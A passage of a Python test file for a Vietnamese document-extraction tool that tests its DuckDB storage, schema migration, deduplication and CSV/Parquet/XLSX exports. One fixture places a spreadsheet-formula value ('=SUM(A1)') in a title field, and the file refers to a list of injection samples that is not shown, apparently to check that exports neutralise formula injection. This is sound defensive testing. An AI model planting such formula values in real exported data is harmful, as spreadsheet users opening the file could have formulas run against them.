        store._con.execute("DROP TABLE items")
        store._con.execute("DROP TABLE documents")
        store._con.execute("DROP TABLE sections")
        cols = ", ".join(f"{c} {'VARCHAR' if writers.sql_type(c) in ('DATE', 'VARCHAR[]') else writers.sql_type(c)}"
                         for c in DOCUMENT_COLUMNS)  # fmt: skip
        store._con.execute(f"CREATE TABLE documents ({cols}, PRIMARY KEY (source_path))")
        for t, columns in (("sections", SECTION_COLUMNS), ("items", ITEM_COLUMNS)):
            cols = ", ".join(f"{c} {'VARCHAR' if writers.sql_type(c) in ('DATE', 'VARCHAR[]') else writers.sql_type(c)}"
                             for c in columns)  # fmt: skip
            store._con.execute(f"CREATE TABLE {t} ({cols})")
        store._con.execute(
            "INSERT INTO documents (doc_id, source_path, issue_date, recipients, pages, ocr_pages, is_conclusion, "
            "needs_review) VALUES ('ab', 'cu.pdf', '2020-05-18', 'Sở Tài chính; Lưu: VT', 1, 0, true, false)"
        )
        store._con.execute("UPDATE meta SET value = '1' WHERE key = 'schema_version'")
    with Store(out) as store:
        row = store.tables()["documents"].set_index("source_path").loc["cu.pdf"]
        assert (row["issue_date"], row["recipients"]) == ("2020-05-18", "Sở Tài chính; Lưu: VT")
        version = store._con.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchall()
    assert version == [("2",)]


def test_store_analysis_tables_go_into_the_database_and_workbook(out: Path) -> None:
    import duckdb

    import ketluan

    with Store(out) as store:
        for month in (7, 8, 9):
            store.commit(make_doc(f"thang-{month}.pdf", content=f"tháng {month}", issue_date=f"2024-0{month}-20",
                                  period_start=f"2024-0{month}-01", period_label=f"tháng {month}/2024"))  # fmt: skip
        store.export()
    tables = ketluan.analyze(out / "ketluan.duckdb")
    con = duckdb.connect(str(out / "ketluan.duckdb"), read_only=True)
    stored = {r[0] for r in con.execute("SHOW TABLES").fetchall()}
    assert {"recurrence", "item_clusters", "followups"} <= stored
    assert con.execute("SELECT count(*) FROM item_clusters").fetchall()[0][0] == len(tables["item_clusters"])
    con.close()
    sheets = load_workbook(out / "ketluan.xlsx", read_only=True).sheetnames
    assert sheets[:3] == ["documents", "sections", "items"]
    assert {"recurrence", "item_clusters", "followups"} <= set(sheets)


@pytest.mark.parametrize("table", [*writers.TABLE_NAMES, *schemas.ANALYSIS_COLUMNS])
def test_store_json_schema_shipped_matches_the_contract(table: str) -> None:
    shipped = json.loads(schemas.schema_path(table).read_text(encoding="utf-8"))
    assert shipped == schemas.json_schema(table)


def test_store_written_files_follow_the_json_schemas(out: Path) -> None:
    import jsonschema

    import ketluan

    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.commit(make_doc("b.pdf", content="tháng 9", issue_date="2024-09-20"))
        store.commit(failed_doc("hong.pdf"))
        store.export()
    for table in writers.TABLE_NAMES:
        schema = json.loads(schemas.schema_path(table).read_text(encoding="utf-8"))
        for line in (out / f"{table}.jsonl").read_text(encoding="utf-8").splitlines():
            jsonschema.validate(json.loads(line), schema)
        assert list(read_csv(out / f"{table}.csv").columns) == schema["required"]
    ketluan.analyze(out)
    for table in schemas.ANALYSIS_COLUMNS:
        if (out / f"{table}.csv").exists():
            schema = json.loads(schemas.schema_path(table).read_text(encoding="utf-8"))
            assert list(read_csv(out / f"{table}.csv").columns) == schema["required"], table


def _table_rows(store: Store) -> dict[str, list[tuple[Any, ...]]]:
    tables = store.tables()
    return {t: sorted(map(tuple, tables[t].astype(str).values.tolist())) for t in TABLES}


# fmt: off
COMMIT_SEQUENCES = [
    # the same path again with other content: its old sections and items go
    [("a.pdf", "v1"), ("a.pdf", "v2")],
    # a copy under another name shares the doc_id; replacing one path keeps the other's rows
    [("a.pdf", "v1"), ("b.pdf", "v1"), ("a.pdf", "v2")],
    # a failed copy (no rows) must not wipe the good rows of the same content
    [("a.pdf", "v1"), ("b.pdf", "v1"), ("b.pdf", "error"), ("a.pdf", "v1")],
    # a path that failed, then reads well, then changes back
    [("hong.pdf", "error"), ("hong.pdf", "v1"), ("hong.pdf", "v2"), ("c.pdf", "v2"), ("hong.pdf", "v1")],
]
# fmt: on


@pytest.mark.parametrize("sequence", COMMIT_SEQUENCES)
def test_store_commit_skips_only_statements_that_change_nothing(
    sequence: list[tuple[str, str]], tmp_path: Path
) -> None:
    """The rows `commit` keeps in memory (to leave out no-op SELECT/DELETE statements) give the same
    tables as asking the database at every commit."""

    def doc(path: str, content: str) -> Document:
        if content == "error":
            failed = failed_doc(path)
            return failed if path == "hong.pdf" else Document(
                doc_id=make_doc(path, "v1").doc_id, source_path=path, status="error",
                error="timeout: the document took longer than 120 s", input_kind="text_pdf")  # fmt: skip
        return make_doc(path, content=f"giao ban {content}", texts=(f"{LIMITATION} ({content})", TASK))

    with Store(tmp_path / "kept") as kept, Store(tmp_path / "asked") as asked:
        for path, content in sequence:
            kept.commit(doc(path, content))
            asked._rows = None  # read from the database again: what every commit used to ask
            asked.commit(doc(path, content))
            assert _table_rows(kept) == _table_rows(asked)
            assert kept._stored_rows().paths == dict(
                kept._con.execute("SELECT source_path, doc_id FROM documents").fetchall()
            )
        final = _table_rows(kept)
    paths = [r[DOCUMENT_COLUMNS.index("source_path")] for r in final["documents"]]
    assert sorted(paths) == sorted({p for p, _ in sequence})


# -- the export without pandas (Rows) gives the bytes of the DataFrame export -----------------------


def _edge_docs() -> list[Document]:
    """Documents with what the writers treat specially: formulas, quotes, commas and line breaks,
    NFD text, an empty and a set OCR confidence, dates set and empty, lists, a failed file."""
    nfd = unicodedata.normalize("NFD", "Sở Tài chính; Ủy ban nhân dân huyện Sơn Tịnh")
    first = make_doc("luu-tru/2024/tb-125.pdf", texts=(*INJECTIONS, *HARMLESS[:3], 'Báo cáo "tiến độ", gửi\nSở Xây dựng'),
                     recipients="- Sở Tài chính;", title="=SUM(A1) kết luận")  # fmt: skip
    scan = make_doc("luu-tru/2024/scan-ket-luan.pdf", content="scan", texts=(nfd, "Giao ban 🙂 quý III/2024"),
                    issue_date="", period_start="", recipients=nfd)  # fmt: skip
    scan.input_kind, scan.ocr_pages, scan.ocr_confidence = "scanned_pdf", 2, 0.8125
    return [first, scan, failed_doc("luu-tru/hong.pdf")]


def _files(folder: Path) -> dict[str, bytes]:
    """Each output file's bytes; a workbook's members but its creation time."""
    import zipfile

    found: dict[str, bytes] = {}
    for path in sorted(folder.iterdir()):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                for name in z.namelist():
                    if name != "docProps/core.xml":
                        found[f"{path.name}/{name}"] = z.read(name)
        elif path.suffix in (".csv", ".jsonl", ".parquet"):
            found[path.name] = path.read_bytes()
    return found


@pytest.mark.parametrize("count", [0, 1, 3])
def test_store_rows_export_writes_the_dataframe_bytes(count: int, tmp_path: Path) -> None:
    from ketluan.duplicates import find_duplicates

    with Store(tmp_path / "rows") as store:
        for doc in _edge_docs()[:count]:
            store.commit(doc)
        store.export()
        frames = store.tables()
    frames["documents"]["duplicate_of"] = find_duplicates(frames["documents"], frames["items"])
    outputs.mark_duplicates(frames)  # as the export does: duplicate_of, and a copy's issuer_id
    (tmp_path / "frames").mkdir()
    assert not outputs.write_tables(frames, tmp_path / "frames").failed
    rows, old = _files(tmp_path / "rows"), _files(tmp_path / "frames")
    assert sorted(rows) == sorted(old) and len(rows) > 9
    assert [name for name in rows if rows[name] != old[name]] == []


def test_store_rows_are_the_typed_table_values(out: Path) -> None:
    with Store(out) as store:
        for doc in _edge_docs():
            store.commit(doc)
        rows = store_module._read_rows(store._con)
        frames = store.tables()
    assert rows is not None
    for t in writers.TABLE_NAMES:
        expected = list(frames[t].astype(object).itertuples(index=False, name=None))
        assert repr(rows[t].rows) == repr(expected)  # NaN == NaN, and int/float/bool kept apart
        assert rows[t].columns == list(frames[t].columns)


def test_store_schema_1_columns_export_the_dataframe_way(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store._con.execute("ALTER TABLE documents ALTER pages TYPE VARCHAR")  # as a schema 1 table kept it
        assert store_module._read_rows(store._con) is None
        written = store.export()
    assert "documents.csv" in written and read_csv(out / "documents.csv").loc[0, "pages"] == "3"


# fmt: off
ARROW_VALUES = [
    ("string", ["Kết luận", "", "- Sở Tài chính;", "🙂 giao ban", unicodedata.normalize("NFD", "Sơn Tịnh")]),
    ("string", []),
    ("int64", [0, 3, -1, 2**62]),
    ("float64", [0.875, None, float("nan"), -0.0, 1e-300]),
    ("float64", [None, None]),
    ("bool", [True, False, False, True, True, False, True, False, True]),
    ("date32", [writers.to_date("2024-09-30"), None, writers.to_date("1969-12-31"), writers.to_date("0001-01-01")]),
    ("list<string>", [["Sở Tài chính", "UBND huyện Sơn Tịnh"], [], ["🙂"], []]),
    ("list<string>", []),
]
# fmt: on


def _parquet_bytes(table: Any, tmp_path: Path, name: str) -> bytes:
    import pyarrow.parquet as pq

    pq.write_table(table, tmp_path / name)
    return (tmp_path / name).read_bytes()


@pytest.mark.parametrize(("kind", "values"), ARROW_VALUES)
def test_store_arrow_columns_built_from_buffers_equal_pyarrow_conversion(
    kind: str, values: list[Any], tmp_path: Path
) -> None:
    import pyarrow as pa

    column = {"string": "title", "int64": "pages", "float64": "ocr_confidence", "bool": "is_conclusion",
              "date32": "issue_date", "list<string>": "recipients"}[kind]  # fmt: skip
    data = {c: [writers.coerce(None, c) for _ in values] for c in DOCUMENT_COLUMNS}
    data[column] = values
    built = writers.arrow_table("documents", data)
    converted = pa.Table.from_pydict(data, schema=writers.ARROW_SCHEMAS["documents"])
    assert built.schema == converted.schema
    assert repr(built.to_pylist()) == repr(converted.to_pylist())  # NaN shown as nan on both sides
    assert built.column(column).null_count == converted.column(column).null_count
    assert _parquet_bytes(built, tmp_path, "built") == _parquet_bytes(converted, tmp_path, "converted")


def test_store_arrow_column_of_another_type_is_converted_by_pyarrow() -> None:
    import numpy as np

    data = {c: [writers.coerce(None, c)] for c in DOCUMENT_COLUMNS}
    data["pages"] = [np.int64(2)]  # not a Python int: pyarrow's own conversion takes it
    assert writers.arrow_table("documents", data).column("pages").to_pylist() == [2]


def test_store_one_document_run_never_imports_pandas(out: Path) -> None:
    code = f"""
        import sys
        from ketluan.store import Store
        from ketluan.records import Document, Fields, Item, Section
        doc = Document(doc_id="907a2ed1a172817c", source_path="tb-ket-luan-thang-5.pdf", sha256="9" * 64,
                       input_kind="text_pdf", fields=Fields(issuer="Thanh tra tỉnh", issue_date="2020-05-18"),
                       sections=[Section("s1", seq=1, heading="Nhiệm vụ", category="task")],
                       items=[Item("i1", section_id="s1", seq=1, category="task", text="Sở Tài chính rà soát",
                                   actors="Sở Tài chính", deadline="2020-06-30")])
        from ketluan.store import warm_export
        warm_export()  # what a run of one document in a worker imports while it waits
        with Store({str(out)!r}) as store:
            store.commit(doc)
            written = store.export()
        assert len(written) == 11, written
        print("pandas" in sys.modules)
    """
    done = _run_python(code)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "False"


def test_store_fresh_schema_in_one_transaction_is_the_same_schema(tmp_path: Path) -> None:
    import duckdb

    def schema(con: Any) -> list[tuple[Any, ...]]:
        columns = con.execute(
            "SELECT table_name, column_index, column_name, data_type, is_nullable "
            "FROM duckdb_columns() WHERE database_name = current_database() ORDER BY ALL"
        ).fetchall()
        keys = con.execute("SELECT table_name, constraint_type, constraint_column_names FROM duckdb_constraints() "
                           "WHERE database_name = current_database() ORDER BY ALL").fetchall()  # fmt: skip
        return columns + keys

    with Store(tmp_path / "new") as store:
        built = schema(store._con)
        meta = store._con.execute("SELECT * FROM meta").fetchall()
    con = duckdb.connect(str(tmp_path / "one-by-one.duckdb"))  # the statements as autocommits
    con.execute("CREATE TABLE meta (key VARCHAR PRIMARY KEY, value VARCHAR)")
    for t in writers.TABLE_NAMES:
        cols = ", ".join(f"{c} {writers.sql_type(c)}" for c in writers.COLUMNS[t])
        con.execute(f"CREATE TABLE {t} ({cols}{', PRIMARY KEY (source_path)' if t == 'documents' else ''})")
    assert built == schema(con) and meta == [("schema_version", store_module.SCHEMA_VERSION)]
    con.close()
    with Store(tmp_path / "new") as store:  # opened again: nothing to create, nothing changed
        assert schema(store._con) == built


def test_store_read_database_in_export_order_not_commit_order(out: Path) -> None:
    # two workers finish in any order: September's notice committed before August's
    with Store(out) as store:
        store.commit(make_doc("thang-9.pdf", content="giao ban tháng 9/2024", issue_date="2024-09-20"))
        store.commit(make_doc("thang-8.pdf", content="giao ban tháng 8/2024", issue_date="2024-08-20"))
    tables = store_module.read_database(out)
    assert tables["items"]["issue_date"].tolist()[:2] == ["2024-08-20", "2024-08-20"]
    assert [p.rsplit("/", 1)[-1] for p in tables["documents"]["source_path"]] == [
        "thang-8.pdf",
        "thang-9.pdf",
    ]


def test_store_copy_with_a_misread_issuer_gets_the_kept_documents_issuer_id(out: Path) -> None:
    import dataclasses

    pdf = make_doc("tb-468-thang-8.pdf", content="tb 468 pdf", issuer="CHI CỤC HẢI QUAN CỬA KHẨU QUỐC TẾ LÀO CAI",
                   issuer_parent="CỤC HẢI QUAN TỈNH LÀO CAI", place="Lào Cai", doc_number="468/TB-CCHQCKQT",
                   issue_date="2020-09-08")  # fmt: skip
    scan = make_doc("tb-468-thang-8-scan.pdf", content="tb 468 scan", issuer="CHI CỤC HẢI QUAN CỬỦA KHẨU QUỐC TẾ LÀO CAI",
                    issuer_parent="CỤC HẢI QUAN TỈNH LÀO CAI", place="Lào Cai", doc_number="468/TB-CCHQCKQT",
                    issue_date="2020-09-08")  # fmt: skip
    from ketluan.identity import issuer_id_of

    pdf = dataclasses.replace(pdf, fields=dataclasses.replace(pdf.fields, issuer_id=issuer_id_of(pdf.fields)))
    scan = dataclasses.replace(
        scan,
        input_kind="scanned_pdf",
        fields=dataclasses.replace(scan.fields, issuer_id=issuer_id_of(scan.fields)),
    )
    assert scan.fields.issuer_id == "chi-cuc-hai-quan-cuua-khau-quoc-te/cuc-hai-quan/tinh-lao-cai"  # as read
    with Store(out) as store:
        store.commit(pdf)
        store.commit(scan)
        store.export()
    docs = read_csv(out / "documents.csv").set_index("source_path")
    key = "chi-cuc-hai-quan-cua-khau-quoc-te/cuc-hai-quan/tinh-lao-cai"
    assert docs.at["tb-468-thang-8.pdf", "issuer_id"] == key
    assert docs.at["tb-468-thang-8-scan.pdf", "duplicate_of"] == pdf.doc_id
    assert (
        docs.at["tb-468-thang-8-scan.pdf", "issuer"] == "CHI CỤC HẢI QUAN CỬỦA KHẨU QUỐC TẾ LÀO CAI"
    )  # as printed
    assert docs.at["tb-468-thang-8-scan.pdf", "issuer_id"] == key  # one document, one issuer
    items = read_csv(out / "items.csv")
    assert set(items.loc[items["doc_id"] == scan.doc_id, "issuer_id"]) == {key}
